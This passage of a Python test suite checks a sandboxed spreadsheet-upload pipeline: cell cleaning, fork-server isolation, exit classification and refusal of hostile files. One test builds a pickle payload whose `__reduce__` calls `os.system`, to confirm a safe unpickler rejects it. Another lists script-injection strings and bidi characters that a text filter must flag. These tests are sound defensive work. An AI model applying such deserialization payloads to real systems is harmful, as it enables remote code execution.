    warm_up(lambda: asked.append(True) or True)
    assert asked == [True]


def test_a_row_is_cleaned_as_each_of_its_cells_would_be():
    """`_clean_row` (no call per usual cell) gives what `_clean_value` gives for each cell:
    empty text None, text, numbers and dates as they are, anything else as text."""
    from etl.reading.sheets import _clean_row, _clean_value

    class Odd:
        def __str__(self) -> str:
            return "lạ"

    row = ["", " ", "Sở Y tế", 0, 1.5, float("nan"), True, False, None, dt.date(2024, 6, 30)]
    row += [dt.datetime(2024, 6, 30, 8), dt.time(8), dt.timedelta(1), Odd(), b"x", 10**30]
    cleaned = _clean_row(row)
    expected = [_clean_value(v) for v in row]
    assert [(type(a), repr(a)) for a in cleaned] == [(type(b), repr(b)) for b in expected]


def test_exit_statuses_are_classified():
    assert sandbox.classify_exit(0, False, b"") is None
    assert sandbox.classify_exit(-signal.SIGKILL, True, b"") == "timeout"
    assert sandbox.classify_exit(-signal.SIGALRM, False, b"") == "timeout"
    assert sandbox.classify_exit(-signal.SIGXCPU, False, b"") == "timeout"
    out_of_memory = b"memory allocation of 9 bytes failed"
    assert sandbox.classify_exit(-signal.SIGABRT, False, out_of_memory) == "memory"
    assert sandbox.classify_exit(sandbox.EXIT_MEMORY, False, b"") == "memory"
    assert sandbox.classify_exit(-signal.SIGSEGV, False, b"") == "crashed"
    assert sandbox.classify_exit(-signal.SIGABRT, False, b"panicked at") == "crashed"


def test_threads_share_the_fork_servers():
    """The web server's threads read at the same time; a crash in one costs only its file."""
    lax = Limits(max_rows=2_000_000, max_cols=20_000, max_cells=10**13, parse_workers=2)
    bad, good = at_xfd1048576(), b01()
    outcomes: dict[int, list[str]] = {}

    def read(i: int) -> None:
        log = ProblemLog(f"f{i}.xlsx")
        grids = read_grids(bad if i % 3 == 0 else good, f"f{i}.xlsx", log, lax)
        outcomes[i] = [p.code for p in log.items] if grids is None else ["ok"]

    threads = [threading.Thread(target=read, args=(i,)) for i in range(9)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert outcomes == {i: ["parse-memory"] if i % 3 == 0 else ["ok"] for i in range(9)}


def test_grids_come_back_through_an_allow_list_unpickler():
    class Evil:
        def __reduce__(self):
            return (os.system, ("echo pwned",))

    with pytest.raises(pickle.UnpicklingError):
        sandbox.safe_loads(pickle.dumps(Evil()))
    value = {"a": [1, 2.5, "x", None, True, dt.datetime(2024, 6, 30), dt.date(2024, 1, 2)]}
    assert sandbox.safe_loads(pickle.dumps(value)) == value


def test_openpyxl_parses_with_defusedxml():
    """openpyxl (asked for formula positions) uses defusedxml whenever it is installed."""
    import openpyxl.xml
    import openpyxl.xml.functions

    assert openpyxl.xml.DEFUSEDXML is True
    assert openpyxl.xml.functions.iterparse.__module__.startswith("defusedxml")


def test_unsafe_text_rules():
    assert unsafe_text("Trường THCS Lê Lợi (điểm lẻ)\nấp 3") is None
    assert unsafe_text("a < b và c > d") is None
    assert unsafe_text(12) is None
    for bad in (
        "a\x00",
        "a\x1f",
        "\u202a",
        "\u202b",
        "\u202c",
        "\u202d",
        "\u2067",
        "\u2068",
        "\u200f",
    ):
        assert unsafe_text(bad) is not None, repr(bad)
    for bad in ("<p>", "</div>", "<!-- x -->", "< script", "vbscript:x", "data:text/html,x"):
        assert unsafe_text(bad) is not None, bad


def test_refused_packages_are_never_reopened_in_process():
    """etl/writers/annotate.py must not load a bomb with openpyxl to mark its cells."""
    for case in REFUSED.values():
        if case.code in ("unsafe-text", "bad-date", "missing-year", "file-empty"):
            continue
        assert not package.safe_to_reopen([case.code]), case.code
    assert package.safe_to_reopen(["unsafe-text", "bad-date", "new-unit"])


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs Linux /proc")
def test_fork_servers_and_their_children_end_with_the_pool():
    box = dataclasses.replace(READING)  # the same jobs, its own fork servers
    assert box.run("grids", (b01(), "xlsx"), ProblemLog("a.xlsx"), Limits())
    [server] = box.pool.idle
    assert len(list(Path(f"/proc/{server.proc.pid}/task").iterdir())) == 1  # single-threaded
    deadline = time.monotonic() + 10
    while len(_live(_children(server.proc.pid))) != 1 and time.monotonic() < deadline:
        time.sleep(0.01)  # the child that read is ending; the next one waits
    spares = _live(_children(server.proc.pid))
    assert len(spares) == 1
    box.close()
    assert server.proc.poll() is not None
    deadline = time.monotonic() + 10
    while _live(spares) and time.monotonic() < deadline:
        time.sleep(0.01)
    assert not _live(spares)


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs Linux /proc")
def test_a_waiting_child_that_dies_is_replaced_and_the_child_has_no_way_to_the_parent():
    """The parent sends each job to the fork server's waiting child itself (its pipes passed
    over a Unix socket): that child holds no descriptor of the fork server's socket or of
    another child's pipes; one that dies while it waits is replaced, and the next file is
    read by its successor."""
    box = dataclasses.replace(READING)
    try:
        assert box.run("grids", (b01(), "xlsx"), ProblemLog("a.xlsx"), Limits())
        [server] = box.pool.idle
        deadline = time.monotonic() + 10
        spare, targets = None, []
        while spare is None and time.monotonic() < deadline:  # the child that read may
            for pid in _live(_children(server.proc.pid)):  # still be ending: not that one
                try:
                    fds = Path(f"/proc/{pid}/fd")
                    targets = [os.readlink(fds / fd) for fd in os.listdir(fds)]
                except FileNotFoundError:
                    continue
                if sum(t.startswith("pipe:") for t in targets) == 3:  # job, result, alive
                    spare = pid
                    break
            time.sleep(0.01)
        assert spare is not None, "no waiting child"
        assert not [t for t in targets if t.startswith("socket:")], targets
        os.kill(spare, signal.SIGKILL)
        while time.monotonic() < deadline and _live(_children(server.proc.pid)) in ([], [spare]):
            time.sleep(0.01)
        assert box.run("grids", (b01(), "xlsx"), ProblemLog("b.xlsx"), Limits())
        assert box.pool.idle == [server] and server.alive()
    finally:
        box.close()


def _live(pids: list[int]) -> list[int]:
    """The processes among `pids` still running (a zombie has an empty command line)."""
    alive = []
    for pid in pids:
        try:
            if Path(f"/proc/{pid}/cmdline").read_bytes():
                alive.append(pid)
        except FileNotFoundError:
            pass
    return alive


def test_a_hostile_file_is_never_reopened_to_mark_its_cells():
    """The upload page's 'download marked file' opens the workbook again with openpyxl, in
    the web process: never for a file refused as hostile."""
    from etl.core.problems import Problem
    from etl.writers.annotate import annotate

    bomb = Problem("zip-bomb", "error", "…", "…", file="bom.xlsx")
    assert annotate(b"PK\x03\x04 not even read", [bomb], "bom.xlsx") is None


def _upload_item(result) -> dict:
    """A result as the upload page keeps it (pages/upload.py `_as_item`)."""
    return {
        "file_name": result.file_name,
        "sha256": result.sha256,
        "status": result.status,
        "problems": [p.as_dict() for p in result.problems],
        "preview": result.preview,
        "layouts": [],
        "mapping": None,
        "mapping_source": None,
        "kept": {},
    }


def test_the_upload_page_offers_a_marked_copy_only_of_a_file_it_can_mark(ingest):
    """A text file named .xlsx has no cells to mark: no «Tải tệp đã đánh dấu lỗi» button that
    would do nothing; a workbook with a bad cell has one."""
    from components.upload_view import make_file_result
    from tests.builders import b01

    text_file = ingest(b"not an excel file at all", "rac.xlsx")
    assert text_file.status == "refused"
    shown = str(make_file_result(_upload_item(text_file), 0))
    assert "Tải tệp đã đánh dấu lỗi" not in shown and "'role': 'annotate'" not in shown
    assert "Sửa tệp theo hướng dẫn dưới đây rồi nộp lại." in shown
    bad_cell = ingest(b01([2, "Sở Tư pháp", -3, 40, None]), "b01.xlsx")
    assert bad_cell.status == "refused"
    shown = str(make_file_result(_upload_item(bad_cell), 1))
    assert "Tải tệp đã đánh dấu lỗi" in shown and "'role': 'annotate'" in shown
